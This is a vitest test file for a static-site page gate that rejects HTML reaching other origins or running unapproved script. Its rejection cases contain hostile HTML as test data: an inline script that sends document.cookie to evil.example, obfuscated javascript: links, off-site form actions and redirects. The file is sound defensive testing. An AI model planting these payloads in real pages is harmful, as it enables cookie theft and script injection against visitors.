/**
 * The static page gate (scripts/lib/page-gate.ts) against hostile pages: each snippet below, put
 * into an otherwise clean page, would let a page talk to another origin, run script, or escape its
 * policy, and must be reported. The clean pages are the shapes the site really uses.
 */
import { describe, expect, it } from 'vitest';
import { pageProblems } from '../../../scripts/lib/page-gate.ts';
import { refreshTarget } from '../../../scripts/lib/off-site.ts';

const policy =
  "default-src 'self'; img-src 'self' data:; font-src 'self'; connect-src 'self'; form-action 'self'; base-uri 'self'; object-src 'none'; script-src 'self'";
const page = ({ head = '', body = '' }: { head?: string; body?: string }) =>
  `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>t</title><link rel="canonical" href="https://bvn.example/x/"><meta http-equiv="content-security-policy" content="${policy}"><link rel="stylesheet" href="/_astro/a.css">${head}</head><body><main><h1>t</h1>${body}</main></body></html>`;

describe('the static page gate', () => {
  it.each([
    [
      'a meta refresh to another origin',
      { head: '<meta http-equiv="refresh" content="0;url=https://evil.example/">' },
      '<meta http-equiv="refresh"> sends the reader to another origin',
    ],
    [
      'a meta refresh with a quoted, upper-case URL',
      { head: `<meta http-equiv="Refresh" content="1; URL='//evil.example/x'">` },
      '<meta http-equiv="refresh"> sends the reader to another origin',
    ],
    ['a <base> element', { head: '<base href="https://evil.example/">' }, '<base href='],
    [
      'an iframe srcdoc',
      { body: '<iframe srcdoc="<script>parent.x=1</script>" title="x"></iframe>' },
      '<iframe srcdoc> is a second document inside the page',
    ],
    [
      'an iframe from another origin',
      { body: '<iframe src="https://evil.example/" title="x"></iframe>' },
      '<iframe src="https://evil.example/"> leaves the site',
    ],
    [
      'an <object data>',
      { body: '<object data="https://evil.example/x.swf"></object>' },
      '<object> embeds content',
    ],
    ['an <embed>', { body: '<embed src="/x.swf">' }, '<embed> embeds content'],
    [
      'an off-site <form action>',
      {
        body: '<form action="https://evil.example/collect" method="post"><button>Go</button></form>',
      },
      '<form action="https://evil.example/collect"> leaves the site',
    ],
    [
      'an off-site formaction on a button',
      { body: '<form action="/search/"><button formaction="//evil.example/">Go</button></form>' },
      '<button formaction="//evil.example/"> leaves the site',
    ],
    [
      'a link with ping',
      { body: '<a href="/about/" ping="https://evil.example/track">About</a>' },
      'reports the click to a tracking URL',
    ],
    [
      'a preconnect to another origin',
      { head: '<link rel="preconnect" href="https://evil.example">' },
      '<link rel="preconnect" href="https://evil.example"> makes the browser contact another origin',
    ],
    [
      'a dns-prefetch to another origin',
      { head: '<link rel="dns-prefetch" href="//evil.example">' },
      '<link rel="dns-prefetch" href="//evil.example"> makes the browser contact another origin',
    ],
    [
      'a prefetch of another origin',
      { head: '<link rel="prefetch" href="https://evil.example/next">' },
      'makes the browser contact another origin',
    ],
    [
      'an entity-encoded javascript: link',
      { body: '<a href="&#106;avascript:alert(1)">x</a>' },
      'is a script URL (inline script)',
    ],
    [
      'a javascript: link with a tab inside the scheme and upper case',
      { body: '<a href="JaVa&Tab;Script:alert(1)">x</a>' },
      'is a script URL (inline script)',
    ],
    [
      'a src with a leading space before //host',
      { body: '<img src=" //evil.example/p.png" alt="">' },
      'leaves the site: //evil.example/p.png',
    ],
    [
      'a src with backslashes',
      { body: '<img src="\\\\evil.example\\p.png" alt="">' },
      'leaves the site',
    ],
    [
      'a script src starting /\\',
      { head: '<script type="module" src="/\\evil.example/x.js"></script>' },
      '<script src="/\\evil.example/x.js"> loads a script from another origin',
    ],
    [
      'an https:host URL, relative on https but another origin on http',
      { body: '<img src="https:evil.example/p.png" alt="">' },
      'leaves the site',
    ],
    [
      'an off-site image in a srcset',
      { body: '<img src="/a.png" srcset="/a.png 1x, https://evil.example/b.png 2x" alt="">' },
      '<img srcset> loads https://evil.example/b.png from another origin',
    ],
    [
      'an off-site poster',
      { body: '<video src="/v.mp4" poster="https://evil.example/p.png"></video>' },
      'leaves the site',
    ],
    [
      'an off-site SVG image',
      { body: '<svg><image href="https://evil.example/p.png"/></svg>' },
      '<image href="https://evil.example/p.png"> leaves the site',
    ],
    [
      'an off-site stylesheet',
      { head: '<link rel="stylesheet" href="https://fonts.example.com/a.css">' },
      'makes the browser contact another origin',
    ],
    [
      'a data: script',
      { head: '<script src="data:text/javascript,alert(1)"></script>' },
      'loads a script from another origin',
    ],
    [
      'a first attribute that leaves, followed by a harmless repeat',
      { body: '<img src="https://evil.example/p.png" src="/ok.png" alt="">' },
      'leaves the site',
    ],
    [
      'an inline script without a hash',
      { body: '<script>fetch("https://evil.example/?" + document.cookie)</script>' },
      'has no hash in script-src',
    ],
    [
      'an inline event handler',
      { body: '<img src="/a.png" alt="" onerror="alert(1)">' },
      "an inline event handler (onerror=) needs 'unsafe-hashes'",
    ],
    [
      'speculation rules on a content page',
      { body: '<script type="speculationrules">{"prerender":[{"urls":["/x/"]}]}</script>' },
      'on a content page (only islands may run script)',
    ],
    [
      'a same-origin module script on a content page',
      { head: '<script type="module" src="/_astro/x.js"></script>' },
      '1 script element on a content page (only islands may run script)',
    ],
  ])('rejects %s', (_, parts, problem) => {
    const problems = pageProblems(page(parts), '/about/');
    expect(problems.join('\n')).toContain(problem);
  });

  it.each([
    ['a content page as the site builds it', '/about/', page({})],
    [
      'links to other sites (citations), the canonical URL and mailto',
      '/sources/x/',
      page({
        body: '<a href="https://doi.org/10.1/x">DOI</a> <a href="mailto:a@b.example">mail</a> <a href="//www.cms.gov/x">LCD</a>',
      }),
    ],
    [
      'same-site images, srcset and an inline data: image',
      '/evidence/',
      page({
        body: '<img src="/a.png" srcset="/a.png 1x, b.png 2x" alt=""><img src="data:image/png;base64,AA==" alt="">',
      }),
    ],
    [
      'the search form, a feed link and an icon',
      '/',
      page({
        head: '<link rel="icon" href="/favicon.svg"><link rel="alternate" type="application/atom+xml" href="/feed.xml">',
        body: '<form role="search" action="/search/" method="get"><input name="q"><button>Go</button></form>',
      }),
    ],
    [
      'a refresh that stays on the site, and one that only reloads',
      '/old/',
      page({
        head: '<meta http-equiv="refresh" content="0;url=/new/"><meta http-equiv="refresh" content="30">',
      }),
    ],
    [
      'an island with its module script and a JSON data block',
      '/check/',
      page({
        head: '<script type="module" src="/_astro/CheckerIsland.js"></script>',
        body: '<script type="application/json" id="data">{"a":"</p>"}</script>',
      }),
    ],
    [
      'a JSON-LD block on a content page',
      '/studies/x/',
      page({ body: '<script type="application/ld+json">{"@type":"Article"}</script>' }),
    ],
  ])('accepts %s', (_, path, html) => {
    expect(pageProblems(html, path)).toEqual([]);
  });
});

describe('reading a meta refresh as the browser does', () => {
  it.each([
    ['5', undefined],
    ['0;url=/x/', '/x/'],
    ["0; URL='https://a.example/'", 'https://a.example/'],
    ['0, /y/', '/y/'],
    ['  3 ; url = "/z/" ', '/z/'],
    ['url=/x/', undefined],
  ])('%s leads to %s', (content, target) => {
    expect(refreshTarget(content)).toBe(target);
  });
});
